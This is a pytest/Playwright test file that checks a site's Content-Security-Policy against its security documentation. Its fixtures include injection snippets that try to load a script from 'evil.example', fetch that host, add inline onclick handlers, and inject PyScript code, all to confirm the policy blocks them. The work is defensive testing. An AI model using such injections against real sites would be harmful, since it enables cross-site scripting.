"""The sentences of site/sviluppo/security.md about the policy of the pages, held against the built and running site.

Other sentences have tests where their subject is: links (`test_links`), deep JSON (`test_deep_json`), mutants
(`test_corpus`, tests/lab), withheld storage (`test_storage`), foreign scripts (`test_foreign`), devices
(`test_strangers`, tests/app/table/live), cached files (`test_offline`), places where text becomes markup
(tests/test_sinks.py), what the build installs (tests/build_site/test_dependencies.py).
"""

import base64
import hashlib
import html
import re
from pathlib import Path
from typing import Final

import pytest
from playwright.sync_api import Page

from tests.e2e.conftest import OpenContext, Watch
from tests.e2e.robot import Robot

ONLY_TABLE: Final = frozenset({"gioca/index.html"})
INLINE: Final = re.compile(r"<script(?P<attributes>[^>]*)>(?P<text>.*?)</script>", re.DOTALL)
ALLOWED: Final = {
    "default-src": {"'none'"},
    "script-src": {"'self'"},
    "style-src": {"'self'"},
    "style-src-attr": {"'unsafe-inline'"},
    "img-src": {"'self'", "data:"},
    "worker-src": {"'self'"},
    "base-uri": {"'none'"},
}
"""What a page may load. Sources that are not listed here are 'self' alone."""
FOR_PYTHON: Final = {"script-src": {"'unsafe-eval'"}, "worker-src": {"blob:"}}


def policy_of(page: str) -> dict[str, set[str]]:
    found = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', page)
    assert found is not None
    rules = (rule.split() for rule in html.unescape(found[1]).split(";"))
    return {name: set(sources) for name, *sources in rules}


def digest(text: str) -> str:
    return f"'sha256-{base64.b64encode(hashlib.sha256(text.encode()).digest()).decode()}'"


def test_every_page_allows_only_what_the_document_lists(dist: Path) -> None:
    pages = sorted(dist.rglob("*.html"))
    assert len(pages) > 20
    for file in pages:
        text, name = file.read_text("utf-8"), file.relative_to(dist).as_posix()
        rules = policy_of(text)
        inline = {
            digest(script["text"])
            for script in INLINE.finditer(text)
            if " src=" not in script["attributes"]
            and not re.search(r'type="(?!module)[^"]+"', script["attributes"])
        }
        assert {source for source in rules["script-src"] if source.startswith("'sha256")} == inline, name
        for rule, sources in rules.items():
            more = FOR_PYTHON.get(rule, set()) if name in ONLY_TABLE else set()
            plain = {source for source in sources if not source.startswith("'sha256")}
            assert plain == ALLOWED.get(rule, {"'self'"}) | more, (name, rule)


def test_no_page_names_anything_of_another_origin(dist: Path) -> None:
    """Links that a reader follows may lead elsewhere. What a page loads by itself may not."""
    loads = re.compile(
        r'<(?:script|img|iframe|source|video|audio|embed)\b[^>]*\b(?:src|srcset)="(https?:|//)', re.I
    )
    styles = re.compile(
        r'<link\b(?=[^>]*\brel="(?:stylesheet|preload|icon|manifest)")[^>]*\bhref="(https?:|//)', re.I
    )
    for file in dist.rglob("*.html"):
        text = file.read_text("utf-8")
        assert not loads.search(text) and not styles.search(text), file
    for file in dist.rglob("*.css"):
        assert not re.search(r"(url\(|@import)\s*[\"']?(https?:|//)", file.read_text("utf-8")), file


REFUSED: Final = {
    "an inline script": """{
      const one = document.createElement("script");
      one.textContent = "ran = true";
      document.body.append(one);
    }""",
    "a handler in an attribute": """{
      document.body.insertAdjacentHTML("beforeend", "<button onclick='ran = true' id=lure></button>");
      lure.click();
    }""",
    "a script of another origin": """{
      const one = document.createElement("script");
      one.src = "https://evil.example/a.js";
      document.body.append(one);
    }""",
    "a request to another origin": """{ fetch("https://evil.example/").catch(() => 0); }""",
    "a picture of another origin": """{ new Image().src = "https://evil.example/a.png"; }""",
    "a frame": """{
      const one = document.createElement("iframe");
      one.src = "https://evil.example/";
      document.body.append(one);
    }""",
}


@pytest.mark.started
@pytest.mark.parametrize("what", REFUSED)
def test_the_table_refuses(page: Page, site: str, watch: Watch, what: str) -> None:
    Robot(page).open(f"{site}gioca/?gioco=senet")
    page.evaluate("""() => {
      window.ran = false;
      window.refused = [];
      addEventListener("securitypolicyviolation", ({ effectiveDirective }) => refused.push(effectiveDirective));
    }""")
    page.evaluate(f"() => {REFUSED[what]}")
    page.wait_for_function("refused.length > 0")
    assert page.evaluate("ran") is False
    watch.complaints.clear()


def test_python_runs_the_pages_own_script_only(open_context: OpenContext, site: str) -> None:
    """Data to the browser, code to PyScript: one missed escape would be code."""
    page = open_context().new_page()
    Robot(page).open(f"{site}gioca/?gioco=senet")
    page.evaluate("""() => {
      const code = "import js; js.window.ran = True";
      for (const made of [`<script type="py">${code}</` + "script>", `<py-script>${code}</py-script>`,
                          `<button py-click="${code}" id="lure">x</button>`, `<mpy-script>${code}</mpy-script>`]) {
        document.body.insertAdjacentHTML("beforeend", made);
      }
      const late = document.createElement("script");
      late.type = "py";
      late.textContent = code;
      document.body.append(late);
      document.getElementById("lure").click();
    }""")
    page.wait_for_timeout(1_000)  # for what must not come
    assert page.evaluate("window.ran ?? false") is False
